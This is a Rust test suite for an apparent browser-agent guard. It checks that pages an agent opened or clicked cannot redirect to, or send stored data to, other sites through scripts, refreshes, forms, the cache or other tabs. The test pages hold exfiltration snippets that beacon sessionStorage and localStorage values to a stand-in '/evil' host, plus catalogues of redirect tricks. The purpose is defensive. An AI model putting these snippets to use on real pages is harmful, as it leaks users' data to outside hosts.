//! Documents that come after a step: where a page that it led to may lead on, what the page after a touched
//! one inherits, and what other tabs of its site may send. Told by what another site saw.

use crate::support::{LONG, Page, World, click, done};
use reins_core::{Action, HistoryStep, TabId};

fn go(world: &World, path: &str) -> Action {
    Action::Navigate { tab: world.tab.clone(), url: world.site.url(path) }
}

/// Ways in which a page that a step led to goes on by itself, once it has been shown.
const ONWARD: &[(&str, &str)] = &[
    ("script", "location.href=E"),
    ("replace", "location.replace(E)"),
    ("navigation api", "navigation.navigate(E)"),
    ("form", "f.action=E;f.submit()"),
    ("post form", "f.method='post';f.action=E;f.submit()"),
    ("link", "l.href=E;l.click()"),
    ("own site, cross-site redirect", "location.href='/hop'"),
    (
        "meta refresh",
        "let m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url='+E;document.head.append(m)",
    ),
    (
        "empty page",
        "let w=document.createElement('iframe');document.body.append(w);w.contentWindow.eval('top.location.href=\"'+E+'\"')",
    ),
];

/// a page that a step led to goes on within its site, and nowhere else, until the person acts
/// there; what it tried is told.
#[tokio::test]
async fn r181_a_page_that_a_step_led_to_stays_within_its_site() {
    let world = World::start([("/", Page::html("<a href=/next>Next</a>"))]).await;
    world.site.set("/hop", Page::redirect(302, &world.site.other_url("/evil")));
    world.site.set("/evil", Page::html("evil"));
    for (name, way) in ONWARD {
        let page = format!(
            "<h1>Next</h1><form id=f></form><a id=l></a><script>const E='http://localhost:'+location.port+'/evil'\n\
             function later(){{{way}}}</script>"
        );
        world.site.set("/next", Page::html(&page));
        done(&world.act_guarded(go(&world, "/")).await);
        assert_eq!(done(&world.click_guarded("Next").await).refused, Vec::<String>::new());
        world.eval("void setTimeout(later,1)").await;
        world.page_waits(150).await;
        assert_eq!(world.site.requests("/evil"), 0, "{name}");
        assert!(world.info().unwrap().url.contains("127.0.0.1"), "{name}");
        let acted = world.act_guarded(go(&world, "/")).await;
        assert!(done(&acted).refused.join(" ").contains("/evil"), "{name} {acted:?}");
    }
}

/// a refresh that the server sent is the page's doing too.
#[tokio::test]
async fn r181_a_page_that_a_step_led_to_is_not_refreshed_to_another_site() {
    let world = World::start([("/", Page::html("<a href=/next>Next</a>"))]).await;
    world.site.set("/evil", Page::html("evil"));
    let refresh = format!("0;url={}", world.site.other_url("/evil"));
    let meta =
        format!("<meta http-equiv=refresh content='1;url={}'>", world.site.other_url("/evil"));
    for page in [Page::html("Next").with_header("refresh", refresh), Page::html(&meta)] {
        world.site.set("/next", page);
        done(&world.act_guarded(go(&world, "/")).await);
        let first = world.click_guarded("Next").await;
        done(&first);
        world.page_waits(1_300).await;
        assert_eq!(world.site.requests("/evil"), 0);
        let next = world.act_guarded(go(&world, "/")).await;
        let told = [first.effects.refused, next.effects.refused].concat().join(" ");
        assert!(told.contains("/evil"), "{told}");
    }
}

/// within its site the page goes on, as often as it likes; the person leads it anywhere.
#[tokio::test]
async fn r177_a_page_that_a_step_led_to_goes_on_within_its_site_and_the_person_anywhere() {
    let world = World::start([
        ("/", Page::html("<a href=/next>Next</a>")),
        ("/next", Page::html("<h1>Next</h1>")),
        ("/own", Page::html("<h1>Own</h1>")),
    ])
    .await;
    world.site.set("/evil", Page::html("evil"));
    done(&world.act_guarded(go(&world, "/")).await);
    done(&world.click_guarded("Next").await);
    for path in ["/own?1", "/own?2"] {
        world.eval(&format!("void setTimeout(()=>location.href='{path}',1)")).await;
        assert!(world.site.wait_for(LONG, |seen| seen.path == path).await, "{path}");
    }
    world.site.wait_for(LONG, |seen| seen.path == "/own?2").await;
    world.page_waits(100).await;
    // Its frames and pictures are its own affair: nobody put anything into it.
    let other = world.site.other_url("/picture");
    world.eval(&format!("void(new Image().src='{other}')")).await;
    assert!(world.site.wait_for(LONG, |seen| seen.path == "/picture").await);
    world.person_clicks().await;
    world.eval(&format!("void(location.href='{}')", world.site.other_url("/evil"))).await;
    assert!(world.site.wait_for(LONG, |seen| seen.path == "/evil").await);
}

/// in a tab where the agent only opened pages, the person's address bar leads anywhere.
#[tokio::test]
async fn r182_the_address_bar_is_the_persons_where_the_agent_only_opened_a_page() {
    let world = World::start([("/", Page::html("<h1>Page</h1>"))]).await;
    world.site.set("/evil", Page::html("evil"));
    done(&world.act_guarded(go(&world, "/")).await);
    let (_connection, person) = world.stranger().await;
    let typed =
        serde_json::json!({"url": world.site.other_url("/evil"), "transitionType": "typed"});
    let _: serde_json::Value = person.call("Page.navigate", typed, LONG).await.unwrap();
    assert_eq!(world.site.requests("/evil"), 1);
}

/// where the person types an address of the same site, the page is theirs and inherits nothing.
#[tokio::test]
async fn r182_what_the_person_opens_on_a_touched_pages_site_inherits_nothing() {
    let world = World::start([
        ("/", Page::html("<button type=button>Press</button>")),
        ("/own", Page::html("<h1>Own</h1>")),
    ])
    .await;
    let sends = format!("<script>new Image().src='{}'</script>", world.site.other_url("/new"));
    world.site.set("/own", Page::html(&sends));
    done(&world.act_guarded(go(&world, "/")).await);
    done(&world.click_guarded("Press").await);
    let (_connection, person) = world.stranger().await;
    let typed = serde_json::json!({"url": world.site.url("/own"), "transitionType": "typed"});
    let _: serde_json::Value = person.call("Page.navigate", typed, LONG).await.unwrap();
    assert!(world.site.wait_for(LONG, |seen| seen.path == "/new").await);
}

/// Ways in which a touched page leads to another page of its site.
const LEADS: &[(&str, &str)] = &[
    ("script", "location.href='/next'"),
    ("later", "setTimeout(()=>location.href='/next',600)"),
    ("reload", "location.reload()"),
    ("form", "f.action='/next';f.submit()"),
    ("link", "l.href='/next';l.click()"),
    ("by way of another page", "location.href='/via'"),
    ("by way of a redirect", "location.href='/see'"),
    (
        "by way of a page that it built",
        "location.href=URL.createObjectURL(new Blob(['<script>location.href=\"'+location.origin+'/next\"<\\/script>'],{type:'text/html'}))",
    ),
    ("back", "history.back()"),
];

/// It may come from the cache as well.
const SENDS: &str = "<script>onpageshow=()=>{if(sessionStorage.note)for(let i=0;i<8;i++)setTimeout(()=>{\
    new Image().src='http://localhost:'+location.port+'/evil?'+sessionStorage.note;\
    fetch('/own?'+sessionStorage.note)},i*20)}</script>";

/// what was put into a page does not leave by the pages that its script leads to.
#[tokio::test]
async fn r221_the_page_after_a_touched_one_sends_nothing_to_a_site_it_did_not_know() {
    let world = World::start([
        ("/before", Page::html(SENDS)),
        ("/next", Page::html(SENDS)),
        ("/via", Page::html("<script>location.href='/next'</script>")),
        ("/own", Page::html("own")),
    ])
    .await;
    world.site.set("/see", Page::redirect(302, "/next"));
    for (nth, (name, way)) in LEADS.iter().enumerate() {
        let page = format!(
            "{SENDS}<form id=f></form><a id=l></a><button type=button onclick=\"go()\">Press</button>\
             <script>function go(){{sessionStorage.note='{nth}';{way}}}</script>"
        );
        world.site.set("/", Page::html(&page));
        done(&world.act_guarded(go(&world, "/before")).await);
        world.eval("sessionStorage.clear()").await;
        done(&world.act_guarded(go(&world, "/")).await);
        let acted = world.click_guarded("Press").await;
        done(&acted);
        let own = format!("/own?{nth}");
        assert!(world.site.wait_for(LONG, |seen| seen.path == own).await, "{name} {acted:?}");
        world.page_waits(250).await;
        assert_eq!(world.arrived("evil"), Vec::<String>::new(), "{name} {acted:?}");
        world.eval("sessionStorage.clear()").await;
        let next = world.act_guarded(go(&world, "/own")).await;
        let told = [acted.effects.refused, next.effects.refused].concat().join(" ");
        assert!(told.contains("localhost"), "{name}: {told:?}");
    }
}

/// a page that comes out of the back/forward cache can read what was stored meanwhile.
#[tokio::test]
async fn r221_a_page_that_comes_back_from_the_cache_inherits_as_well() {
    let page = "<button type=button onclick=\"localStorage.note='7';history.back()\">Press</button>\
        <script>let came=0;onpageshow=e=>{if(e.persisted){came=1;new Image().src='EVIL?'+localStorage.note}}</script>";
    let world = World::start([("/elsewhere", Page::html(""))]).await;
    let page = page.replace("EVIL", &world.site.other_url("/evil"));
    let kept = crate::containment::keepable(page).await;
    let open =
        |path: &str| Action::Navigate { tab: world.tab.clone(), url: format!("{kept}{path}") };
    done(&world.act_guarded(open("first")).await);
    done(&world.act_guarded(open("second")).await);
    done(&world.click_guarded("Press").await);
    world.page_waits(200).await;
    assert_eq!(world.eval("came").await, 1, "it came from the cache");
    assert_eq!(world.arrived("evil"), Vec::<String>::new());
    world.person_clicks().await;
    world.eval(&format!("void(new Image().src='{}')", world.site.other_url("/evil?person"))).await;
    assert!(world.site.wait_for(LONG, |seen| seen.path == "/evil?person").await);
}

/// Pages of ordinary sites that a button leads to by script: what they load, by the way they name it.
const NEXT: &[(&str, &str)] = &[
    ("script host", "<script src={a}/needed></script>"),
    ("style sheet host and its fonts", "<link rel=stylesheet href={a}/needed>"),
    ("pictures", "<img src={a}/needed>"),
    ("picture set", "<img srcset='{a}/needed 1x'>"),
    (
        "pictures loaded by a script when they are scrolled to",
        "<img data-src={a}/needed><script>for(const i of document.images)i.src=i.dataset.src</script>",
    ),
    ("frame of a payment service", "<iframe src={a}/needed></iframe>"),
    (
        "interface on a host that it connects to beforehand",
        "<link rel=preconnect href={a}><script>fetch('{a}/needed',{mode:'no-cors'})</script>",
    ),
    (
        "interface on a host that its policy names",
        "<meta http-equiv=content-security-policy content=\"connect-src {a}\"><script>fetch('{a}/needed',{mode:'no-cors'})</script>",
    ),
    (
        "parts of an application from its script host",
        "<script src={a}/lib.js></script><script>import('{a}/needed').catch(()=>0)</script>",
    ),
    (
        "interface that another page of the site used before",
        "<script>fetch('{b}/needed',{mode:'no-cors'})</script>",
    ),
    (
        "interface that the page before used",
        "<script>fetch('{c}/needed',{mode:'no-cors'})</script>",
    ),
    (
        "interface on another host of the site",
        "<script>fetch('{own-api}/needed',{mode:'no-cors'})</script>",
    ),
];

/// the pages that a button of an ordinary page leads to by script get what they load.
#[tokio::test]
async fn r221_the_next_pages_of_ordinary_sites_get_what_they_load() {
    let world = World::start([("/lib.js", Page::raw("text/javascript", "/* a library */"))]).await;
    let port = world.site.port();
    let mut missing = Vec::new();
    for (nth, (name, page)) in NEXT.iter().enumerate() {
        let host = |text: &str| {
            let text = text.replace("/needed", &format!("/needed-{nth}"));
            let text = text.replace("{own-api}", &format!("http://api.shop{nth}.localhost:{port}"));
            ["a", "b", "c"].iter().fold(text, |text, word| {
                text.replace(
                    &format!("{{{word}}}"),
                    &format!("http://{word}{nth}.localhost:{port}"),
                )
            })
        };
        let shop = |path: &str| Action::Navigate {
            tab: world.tab.clone(),
            url: format!("http://shop{nth}.localhost:{port}{path}"),
        };
        world.site.set(
            "/home",
            Page::html(&host("<script>fetch('{b}/first',{mode:'no-cors'})</script>")),
        );
        world.site.set("/sign-in", Page::html(&host("<script>fetch('{c}/first',{mode:'no-cors'})</script><button type=button onclick=\"location.href='/next'\">Sign in</button>")));
        world.site.set("/next", Page::html(&host(page)));
        done(&world.act_guarded(shop("/home")).await);
        done(&world.act_guarded(shop("/sign-in")).await);
        let acted = world.click_guarded("Sign in").await;
        done(&acted);
        let needed = format!("/needed-{nth}");
        if !world.site.wait_for(LONG / 3, |seen| seen.path == needed).await {
            missing.push(format!("{name}: {:?} {:?}", acted.effects.refused, world.info()));
        }
    }
    assert!(missing.is_empty(), "{} refused:\n{}", missing.len(), missing.join("\n"));
}

/// on the way back a page may go on within its own origin, and nowhere else.
#[tokio::test]
async fn r180_on_the_way_back_the_page_goes_on_within_its_own_origin() {
    let world = World::start([("/there", Page::html("there"))]).await;
    world.site.set("/evil", Page::html("evil"));
    for (to, arrives) in [("/there".to_owned(), 1), (world.site.other_url("/evil"), 0)] {
        let page = format!(
            "<button type=button onclick=\"history.pushState(0,'','/shown')\">Details</button>\
             <script>onpopstate=()=>{{location.href='{to}'}}</script>"
        );
        world.site.set("/", Page::html(&page));
        done(&world.act_guarded(go(&world, "/")).await);
        done(&world.click_guarded("Details").await);
        let (step, destination) = (HistoryStep::Back, Some(world.site.url("/")));
        let back = Action::History { tab: world.tab.clone(), step, destination };
        let acted = world.act_guarded(back).await;
        done(&acted);
        world.page_waits(200).await;
        let path = if arrives == 1 { "/there" } else { "/evil" };
        assert_eq!(world.site.requests(path), arrives, "{acted:?}");
    }
}

/// A tab that the agent opens, and its document.
async fn open_tab(world: &World, path: &str) -> TabId {
    let acted = world.act_guarded(Action::OpenTab { url: Some(world.site.url(path)) }).await;
    done(&acted).opened_tab.clone().expect("a tab")
}

/// Ways of telling another tab of the same origin.
const CHANNELS: &[(&str, &str, &str)] = &[
    (
        "channel",
        "new BroadcastChannel('c').postMessage('x')",
        "new BroadcastChannel('c').onmessage=send",
    ),
    ("storage", "localStorage.n=Math.random()", "onstorage=send"),
    (
        "lock",
        "navigator.locks.request('l',()=>new Promise(()=>0))",
        "setInterval(()=>navigator.locks.query().then(q=>q.held.length&&send()),20)",
    ),
    (
        "cookie",
        "document.cookie='n=1'",
        "setInterval(()=>document.cookie.includes('n=1')&&send(),20)",
    ),
];

/// another tab of the site does not send for a touched page what that may not send itself; once the
/// person acts there, it is theirs.
#[tokio::test]
async fn r221_another_tab_of_the_site_sends_nothing_for_a_touched_page() {
    let world = World::start([("/evil", Page::html("evil")), ("/own", Page::html("own"))]).await;
    for (name, tell, hear) in CHANNELS {
        let script = format!(
            "<script>function send(){{new Image().src='http://localhost:'+location.port+'/evil?{name}';fetch('/own?{name}')}}\n{hear}</script>"
        );
        world.site.set("/other", Page::html(&script));
        world.site.set(
            "/",
            Page::html(&format!("<button type=button onclick=\"{tell}\">Press</button>")),
        );
        done(&world.act_guarded(go(&world, "/other")).await);
        let acting = open_tab(&world, "/").await;
        let key = world.find_in(&acting, "Press").await;
        let target = world.browser.record(&key).await.unwrap();
        let acted = world.act_guarded(click(target)).await;
        done(&acted);
        let own = format!("/own?{name}");
        assert!(world.site.wait_for(LONG, |seen| seen.path == own).await, "{name}");
        world.page_waits(150).await;
        let sent = format!("/evil?{name}");
        assert_eq!(world.site.requests(&sent), 0, "{name}");
        world.person_clicks().await;
        world.eval("send()").await;
        assert!(world.site.wait_for(LONG, |seen| seen.path == sent).await, "{name}: the person's");
        done(&world.act_guarded(Action::CloseTab { tab: acting }).await);
        // The next way must not find what this one sent.
        world.eval("document.cookie='n=0';localStorage.clear()").await;
        done(&world.act_guarded(go(&world, "/own")).await);
    }
}

/// tabs of other sites, and what a tab knew before, stay open.
#[tokio::test]
async fn r177_other_tabs_keep_what_they_knew_and_those_of_other_sites_everything() {
    let world = World::start([
        ("/", Page::html("<button type=button>Press</button>")),
        ("/known", Page::html("known")),
        ("/other", Page::html("<h1>Other</h1>")),
        ("/new", Page::html("new")),
    ])
    .await;
    let knows = format!("<img src={}>", world.site.other_url("/known?before"));
    world.site.set("/other", Page::html(&knows));
    done(&world.act_guarded(go(&world, "/other")).await);
    let acting = open_tab(&world, "/").await;
    let key = world.find_in(&acting, "Press").await;
    let target = world.browser.record(&key).await.unwrap();
    done(&world.act_guarded(click(target)).await);
    world.eval(&format!("void(new Image().src='{}')", world.site.other_url("/known?later"))).await;
    assert!(world.site.wait_for(LONG, |seen| seen.path == "/known?later").await);
    // A tab of another site.
    let elsewhere =
        Action::Navigate { tab: world.tab.clone(), url: world.site.other_url("/other") };
    done(&world.act_guarded(elsewhere).await);
    let key = world.find_in(&acting, "Press").await;
    let target = world.browser.record(&key).await.unwrap();
    done(&world.act_guarded(click(target)).await);
    let new = format!("http://new.localhost:{}/new", world.site.port());
    world.eval(&format!("void(new Image().src='{new}')")).await;
    assert!(world.site.wait_for(LONG, |seen| seen.path == "/new").await);
}
